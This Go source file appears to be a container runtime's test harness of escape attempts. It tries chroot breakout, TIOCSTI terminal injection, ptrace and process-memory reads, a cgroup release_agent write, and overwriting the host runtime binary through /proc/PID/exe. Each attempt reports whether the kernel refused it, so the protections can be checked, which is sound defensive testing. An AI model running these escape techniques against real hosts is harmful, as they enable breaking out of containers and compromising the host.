// Package attack tries what a hostile program in a container would try. Each attack says
// "got in" when it worked, else how the kernel refused it. The behaviour suite has a
// container run them, with its protections and without.
package attack

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Name is what a copy of the program that holds the attacks is called.
const Name = "stagebox-attack"

// success is what an attack says that has worked.
const success = "got in"

// attacks get what follows their name on the command line.
var attacks = map[string]func(args []string) error{
	"chroot":   chroot,
	"tiocsti":  typeIn,
	"ptrace":   ptrace,
	"readv":    readv,
	"keyring":  keyring,
	"module":   module,
	"userns":   userns,
	"nothing":  func([]string) error { return nil },
	"mountns":  func([]string) error { return unix.Unshare(unix.CLONE_NEWNS) },
	"mount":    func([]string) error { return unix.Mount("none", "/tmp", "tmpfs", 0, "") },
	"umount":   func([]string) error { return unix.Unmount("/proc", unix.MNT_DETACH) },
	"time":     setTime,
	"hostname": func([]string) error { return unix.Sethostname([]byte("attacked")) },
	"nice":     func([]string) error { return unix.Setpriority(unix.PRIO_PROCESS, 0, -5) },
	"syslog": func([]string) error {
		_, err := unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, make([]byte, 16))
		return err
	},
	"euid":          euid,
	"overwrite":     overwrite,
	"traceIncoming": traceIncoming,
	"open":          open,
	"releaseAgent":  releaseAgent,
	"swap":          swap,
}

// Main runs the attack that args name, and returns an exit status.
func Main(args []string) int {
	attack, ok := attacks[args[0]]
	if !ok {
		fmt.Fprintf(os.Stderr, "%s: there is no attack %q\n", Name, args[0])
		return 2
	}
	if err := attack(args[1:]); err != nil {
		fmt.Println("refused:", err)
		return 0
	}
	fmt.Println(success)
	return 0
}

// chroot leaves a root that chroot(2) alone has made: it changes the root to a directory
// below, stays outside of it, and climbs up. args is a file that is outside.
func chroot(args []string) error {
	if err := os.Mkdir("/tmp/below", 0o755); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	if err := unix.Chroot("/tmp/below"); err != nil {
		return err
	}
	for range 100 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	_, err := os.Stat(args[0])
	return err
}

// typeIn types a command into the terminal that it was started at (TIOCSTI of ioctl_tty(2)).
func typeIn([]string) error {
	for _, c := range []byte("echo typed\n") {
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return errno
		}
	}
	return nil
}

// ptrace attaches to a process.
func ptrace(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := unix.PtraceSeize(pid); err != nil {
		return err
	}
	return nil
}

// readv reads the memory of a process (process_vm_readv(2)), at the address of something
// that every program has: its auxiliary vector has one.
func readv(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	var buf [4]byte
	local := []unix.Iovec{{Base: &buf[0], Len: 4}}
	remote := []unix.RemoteIovec{{Base: uintptr(0x1000), Len: 4}}
	_, err = unix.ProcessVMReadv(pid, local, remote, 0)
	if err == unix.EFAULT { // nothing is there: but it was allowed to look
		return nil
	}
	return err
}

// keyring asks for the keys of the session, which no namespace keeps apart (keyrings(7)).
func keyring([]string) error {
	_, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, true)
	return err
}

// module loads a malformed module: the kernel looks at it only if it may be loaded.
func module([]string) error {
	err := unix.InitModule([]byte("no module"), "")
	if err == unix.ENOEXEC || err == unix.EINVAL {
		return nil
	}
	return err
}

// userns makes a user namespace, for a child: a process with threads may not do it for itself.
func userns([]string) error {
	cmd := exec.Command("/proc/self/exe", "nothing")
	cmd.Args[0] = Name
	cmd.SysProcAttr = &unix.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER}
	return cmd.Run()
}

// setTime sets the clock to what it shows.
func setTime([]string) error {
	now := unix.NsecToTimeval(time.Now().UnixNano())
	return unix.Settimeofday(&now)
}

// releaseAgent names a program in a new tree of cgroups of version 1, which the host's kernel
// would run, as root and outside, when a group of that tree has lost its last process
// (cgroups(7), release_agent).
func releaseAgent([]string) error {
	const dir = "/tmp/agent"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	if err := unix.Mount("cgroup", dir, "cgroup", 0, "none,name="+Name); err != nil {
		return err
	}
	return errors.Join(os.WriteFile(dir+"/release_agent", []byte("/tmp/program"), 0), unix.Unmount(dir, 0))
}

// swap changes two names against each other for as long as it may, with a moment between for
// a process that shares the CPU.
func swap(args []string) error {
	fmt.Println("ready")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return err
		}
		time.Sleep(20 * time.Microsecond)
	}
}

// euid is an attack for a setuid copy of this program.
func euid([]string) error {
	if unix.Geteuid() != 0 {
		return fmt.Errorf("effective user %d", unix.Geteuid())
	}
	return nil
}

// open opens a file to read and, with "write", to write.
func open(args []string) error {
	flags := unix.O_RDONLY
	if len(args) > 1 {
		flags = unix.O_WRONLY
	}
	fd, err := unix.Open(args[0], flags|unix.O_CLOEXEC, 0)
	if err == nil {
		err = unix.Close(fd)
	}
	return err
}

// overwrite waits for a process that runs a program which the container does not have, and
// keeps the file open that /proc/PID/exe leads to. When it runs no longer, it writes.
func overwrite([]string) error {
	fmt.Println("ready")
	return eachNew(func(pid int) bool {
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return false
		}
		self, err := os.ReadFile(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err != nil || !bytes.Contains(self, []byte("A container is a list of system calls")) {
			unix.Close(fd)
			return false
		}
		return overwriteWhenIdle(fd)
	})
}

// overwriteWhenIdle writes to an open file by its magic link, as soon as it runs no longer.
func overwriteWhenIdle(fd int) bool {
	for range 300 {
		w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Write(w, []byte("#!/bin/sh\necho attacked\n"))
			return err == nil
		}
		if err != unix.ETXTBSY {
			return false
		}
		time.Sleep(10 * time.Millisecond)
	}
	return false
}

// traceIncoming attaches to a process that comes into the PID namespace, before it has
// become the program that it is to be: it still has the memory of box.
func traceIncoming([]string) error {
	fmt.Println("ready")
	return eachNew(func(pid int) bool {
		exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
		return err == nil && filepath.Base(exe) != Name && unix.PtraceSeize(pid) == nil
	})
}

// forgotten is when an attack ends by itself. It is killed long before that, by the check that
// has started it, once no process comes any more.
const forgotten = 10 * time.Minute

// eachNew tries something on every process that was not there at first, again and again.
func eachNew(try func(pid int) bool) error {
	old := map[int]bool{}
	for _, pid := range pids() {
		old[pid] = true
	}
	for end := time.Now().Add(forgotten); time.Now().Before(end); {
		for _, pid := range pids() {
			if !old[pid] && try(pid) {
				return nil
			}
		}
	}
	return errors.New("no process came that could be attacked")
}

func pids() []int {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return nil
	}
	var list []int
	for _, entry := range entries {
		if pid, err := strconv.Atoi(entry.Name()); err == nil {
			list = append(list, pid)
		}
	}
	return list
}
